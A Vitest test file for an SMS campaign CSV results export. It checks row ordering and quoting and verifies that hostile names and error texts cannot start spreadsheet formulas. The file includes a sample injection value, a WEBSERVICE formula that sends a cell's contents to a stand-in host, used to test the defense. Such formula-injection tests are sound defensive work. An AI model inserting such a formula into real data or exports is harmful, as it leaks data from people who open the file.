import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { openDatabase, type Db } from '../db/open';
import { Campaigns } from '../outbox/campaigns';
import { resultsCsv } from './resultsCsv';
import { EXPORT_CHUNK_ROWS } from './safeCsv';
import { HOSTILE, formulaCells } from './formulaCheck';

let dir: string;
let db: Db;
let campaigns: Campaigns;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'sms-outbox-results-'));
  db = openDatabase(dir);
  campaigns = new Campaigns(db, () => 1_700_000_000_000);
});
afterEach(() => {
  db.close();
  rmSync(dir, { recursive: true, force: true });
});

function campaign(names: string[]): number {
  return campaigns.create({
    name: 'c',
    sender: 'Shop',
    message: 'Hi',
    tags: [],
    sendAt: null,
    fileName: null,
    fileHash: null,
    estimateCost: null,
    currency: null,
    recipients: names.map((name, i) => ({
      rowNo: i + 2,
      msisdn: String(4520000000 + i),
      country: 'DK',
      name,
      tagvalues: null,
      encoding: 'GSM7',
      parts: 1,
    })),
  }).campaignId;
}

describe('resultsCsv', () => {
  it('writes every recipient in order across pages, BOM, header, numbers bare and text quoted', async () => {
    const n = EXPORT_CHUNK_ROWS * 2 + 7;
    const id = campaign(Array.from({ length: n }, (_, i) => `Name ${i}`));
    const csv = await resultsCsv(campaigns, id);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe('"row","msisdn","name","state","status","status_time","error_code","error","parts"');
    expect(lines[1]).toBe('2,"4520000000","Name 0","queued","","","","",1');
    expect(lines).toHaveLength(n + 2);
    const rows = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true }).data.slice(1);
    expect(rows.map((r) => Number(r[0]))).toEqual(Array.from({ length: n }, (_, i) => i + 2));
  });

  it('no cell starts a formula when read back split on "," or ";" (names and error texts)', async () => {
    const id = campaign(HOSTILE);
    db.prepare('UPDATE recipients SET error = name, error_code = name, state = ? WHERE campaign_id = ?').run('failed', id);
    const csv = await resultsCsv(campaigns, id);
    expect(formulaCells(csv)).toEqual([]);
    const rows = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true }).data.slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    expect(rows[0][2]).toBe('Hansen;\'=WEBSERVICE("http://x/?"&A1)');
  });
});
